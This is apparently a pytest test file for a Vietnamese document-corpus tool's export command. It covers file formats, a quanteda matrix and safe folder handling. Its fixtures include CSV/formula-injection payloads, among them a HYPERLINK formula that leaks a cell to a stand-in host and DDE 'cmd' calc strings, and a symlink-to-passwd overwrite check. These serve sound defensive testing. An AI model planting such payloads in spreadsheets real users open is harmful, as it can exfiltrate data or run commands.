"""`daihoi export`: one file per table that pandas, DuckDB and openpyxl read back, a
document-feature matrix for quanteda, and no writing into a non-empty folder without --force."""

from __future__ import annotations

import atexit
import csv
import re
import shutil
import sqlite3
import tempfile
import zipfile
from functools import cache
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest
from corpus_fixtures import corpus_store, daihoi, daihoi_on_read_only

from conftest import corpus_file
from pipeline.analysis import analyze
from pipeline.contract import report_record
from pipeline.store.database import Store
from pipeline.store.export import DFM_FILES, TABLES, WORKBOOK, export, read_back

COUNTS = {"documents": "documents", "paragraphs": "paragraphs", "sections": "sections",
          "references": "doc_references", "indicators": "indicators", "findings": "findings",
          "tables": "doc_tables", "table_cells": "table_cells", "footnotes": "footnotes",
          "ingest_errors": "ingest_errors"}


def _store_counts() -> dict[str, int]:
    con = sqlite3.connect(corpus_store())
    counts = {name: con.execute(f"SELECT count(*) FROM {table}").fetchone()[0]  # noqa: S608
              for name, table in COUNTS.items()}
    con.close()
    return counts


COUNTS["files"] = "files"


@pytest.mark.parametrize("fmt", ["parquet", "csv", "xlsx"])
def test_every_table_is_one_file_that_tools_read_back(tmp_path: Path, fmt: str) -> None:
    out = tmp_path / fmt
    done = export(corpus_store(), out, fmt)
    tables = [WORKBOOK] if fmt == "xlsx" else [f"{t}.{fmt}" for t in TABLES]
    assert sorted(p.name for p in out.iterdir()) == sorted(tables + list(DFM_FILES))
    counts = _store_counts()
    assert done.rows == counts
    if fmt == "xlsx":
        book = openpyxl.load_workbook(out / WORKBOOK, read_only=True)
        assert book.sheetnames == list(TABLES)
    for table in TABLES:
        path = out / (WORKBOOK if fmt == "xlsx" else f"{table}.{fmt}")
        sheet = table if fmt == "xlsx" else None
        assert len(read_back(path, sheet)) == counts[table], table
        if fmt == "parquet":
            assert duckdb.sql(f"SELECT count(*) FROM '{path}'").fetchall() == [(counts[table],)]
        elif fmt == "csv" and counts[table]:
            assert duckdb.sql(f"SELECT count(*) FROM read_csv('{path}')").fetchall() == [
                (counts[table],)]
        elif fmt == "xlsx":
            assert sum(1 for _ in book[table].iter_rows()) == counts[table] + 1  # a header
    docs = read_back(out / (WORKBOOK if fmt == "xlsx" else f"documents.{fmt}"),
                     "documents" if fmt == "xlsx" else None)
    assert "Đảng bộ xã Điện Hòa" in set(docs["unit"].dropna())
    # Every field of the documents' meta, those without a store column too.
    assert {"reviewed_term", "issuer", "number", "signer", "n_files"} <= set(docs.columns)
    # Integers stay integers: a page count is 11, not 11.0.
    assert pd.api.types.is_integer_dtype(docs["year"]) and pd.api.types.is_integer_dtype(
        docs["n_words"])
    paragraphs = read_back(out / (WORKBOOK if fmt == "xlsx" else f"paragraphs.{fmt}"),
                           "paragraphs" if fmt == "xlsx" else None)
    con = sqlite3.connect(corpus_store())
    first = con.execute("SELECT text FROM paragraphs ORDER BY doc_id, idx LIMIT 1").fetchone()[0]
    con.close()
    assert paragraphs["text"].iloc[0] == first


PAYLOADS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm vào đây")',
            "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


@cache
def hostile_store() -> Path:
    """A store of a real PDF and of texts whose paragraphs begin with spreadsheet formulas
    (the payloads of OWASP's CSV-injection page) and contain the word "nan" (nan giải)."""
    folder = Path(tempfile.mkdtemp(prefix="daihoi_hostile_"))
    atexit.register(shutil.rmtree, folder, ignore_errors=True)
    texts = folder / "in"
    texts.mkdir()
    for i, payload in enumerate(PAYLOADS):
        (texts / f"bao_cao_{i}.txt").write_text(
            f"{payload}\n\nVấn đề nan giải của chi bộ số {i} là công tác phát triển đảng viên"
            " trong thanh niên ở khu dân cư, cần tiếp tục tháo gỡ trong nhiệm kỳ tới.\n",
            encoding="utf-8")
    db = folder / "hostile.db"
    with Store(db) as store:
        for path in [*sorted(texts.iterdir()), corpus_file("pdf", "001_11fa4c8372dfa292")]:
            report = analyze(path)
            store.save(report, report_record(report))
    return db


def test_csv_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(tmp_path: Path) -> None:
    export(hostile_store(), tmp_path, "csv")
    with (tmp_path / "paragraphs.csv").open(encoding="utf-8-sig", newline="") as f:
        texts = [r["text"] for r in csv.DictReader(f)]
    for payload in PAYLOADS:
        assert "'" + payload in texts
    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)
    # Numbers stay numbers: integers as integers, not 11.0.
    with (tmp_path / "documents.csv").open(encoding="utf-8-sig", newline="") as f:
        docs = list(csv.DictReader(f))
    pages = [r["pages"] for r in docs if r["format"] == "pdf"]
    assert pages and all(p.isdigit() for p in pages), pages
    assert all(r["n_words"].isdigit() for r in docs)
    # The word "nan" is a feature of the matrix, and reads back as the string "nan".
    triplets = read_back(tmp_path / "dfm_triplets.csv")
    assert (triplets["feature"] == "nan").sum() == len(PAYLOADS)
    assert triplets["feature"].notna().all()
    assert pd.api.types.is_integer_dtype(triplets["count"])


def test_xlsx_cells_are_strings_never_formulas(tmp_path: Path) -> None:
    export(hostile_store(), tmp_path, "xlsx")
    book = openpyxl.load_workbook(tmp_path / WORKBOOK)
    cells = [c for row in book["paragraphs"].iter_rows(min_row=2) for c in row]
    texts = {c.value for c in cells if c.data_type == "s"}
    for payload in PAYLOADS:
        assert payload in texts
    assert not [c for c in cells if c.data_type == "f"]
    with zipfile.ZipFile(tmp_path / WORKBOOK) as z:
        xml = "".join(z.read(n).decode("utf-8") for n in z.namelist()
                      if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "HYPERLINK" in xml
    docs = book["documents"]
    header = [c.value for c in docs[1]]
    pages = [row[header.index("pages")] for row in docs.iter_rows(min_row=2, values_only=True)
             if row[header.index("format")] == "pdf"]
    assert pages and all(isinstance(p, int) for p in pages)


def test_export_replaces_no_file_through_a_symbolic_link(tmp_path: Path) -> None:
    secret = tmp_path / "passwd"
    secret.write_text("root:x:0:0\n", encoding="utf-8")
    out = tmp_path / "xuat"
    out.mkdir()
    (out / "documents.csv").symlink_to(secret)
    status, _, err = daihoi("export", out, "--format", "csv", "--db", hostile_store(),
                            "--force", "--lang", "en")
    assert status == 2 and "link" in err and "documents.csv" in err
    assert secret.read_text(encoding="utf-8") == "root:x:0:0\n"


@pytest.mark.parametrize("where", ["under_a_file", "proc", "read_only"])
def test_an_unwritable_target_is_a_message_and_exit_2(tmp_path: Path, where: str) -> None:
    if where == "under_a_file":
        (tmp_path / "tep").write_text("x", encoding="utf-8")
        target = tmp_path / "tep" / "xuat"
    elif where == "proc":
        target = Path("/proc/daihoi_xuat")
    else:
        target = tmp_path / "ro" / "xuat"
        target.parent.mkdir()
    run = (lambda *a: daihoi_on_read_only(target.parent, *a)) if where == "read_only" \
        else daihoi
    for command in (["export", target, "--format", "csv"], ["report", target],
                    ["compare", "indicators", "--format", "csv", "--out", target / "c.csv"]):
        status, out, err = run(*command, "--db", hostile_store(), "--lang", "en")
        assert status == 2, (command, out, err)
        assert "Traceback" not in err and "Cannot write" in err, err
        assert str(target.parent if where == "under_a_file" else target) in err
        if where == "under_a_file":
            assert f"{target.parent}: not a folder" in err


def test_a_non_empty_workbook_sheet_has_a_bold_frozen_header_filters_and_widths(
        tmp_path: Path) -> None:
    export(corpus_store(), tmp_path, "xlsx")
    sheet = openpyxl.load_workbook(tmp_path / WORKBOOK)["paragraphs"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:")
    assert all(c.font.b for c in sheet[1])
    assert sheet.column_dimensions["J"].width > sheet.column_dimensions["A"].width


def test_document_feature_matrix_for_quanteda(tmp_path: Path) -> None:
    export(corpus_store(), tmp_path, "parquet")
    triplets = pd.read_csv(tmp_path / "dfm_triplets.csv")
    docvars = pd.read_csv(tmp_path / "dfm_docvars.csv")
    assert list(triplets.columns) == ["doc_id", "feature", "count"]
    assert set(triplets["doc_id"]) <= set(docvars["doc_id"])
    assert {"unit", "term", "doc_type"} <= set(docvars.columns)
    # Per document, the counts add up to its syllables outside headings.
    con = sqlite3.connect(corpus_store())
    doc_id = int(docvars["doc_id"].iloc[0])
    text = "\n".join(t for t, in con.execute(
        "SELECT text FROM paragraphs WHERE doc_id = ? AND is_heading = 0", (doc_id,)))
    con.close()
    assert triplets.loc[triplets["doc_id"] == doc_id, "count"].sum() == len(
        re.findall(r"\b\w+\b", text))
    assert "quanteda" in (tmp_path / "dfm_README.md").read_text(encoding="utf-8")


def test_a_non_empty_folder_needs_force(tmp_path: Path) -> None:
    out = tmp_path / "xuat"
    out.mkdir()
    (out / "ghi_chu.txt").write_text("của người dùng", encoding="utf-8")
    status, _, err = daihoi("export", out, "--format", "csv", "--db", corpus_store(),
                            "--lang", "en")
    assert status == 2 and "not empty" in err and "--force" in err
    assert sorted(p.name for p in out.iterdir()) == ["ghi_chu.txt"]
    status, out_text, err = daihoi("export", out, "--format", "csv", "--db", corpus_store(),
                                   "--force")
    assert status == 0, err
    assert "tệp" in out_text
    assert (out / "ghi_chu.txt").read_text(encoding="utf-8") == "của người dùng"
    assert (out / "paragraphs.csv").is_file()
    status, _, err = daihoi("export", tmp_path / "x", "--db", tmp_path / "khong.db",
                            "--lang", "en")
    assert status == 2 and "There is no store" in err
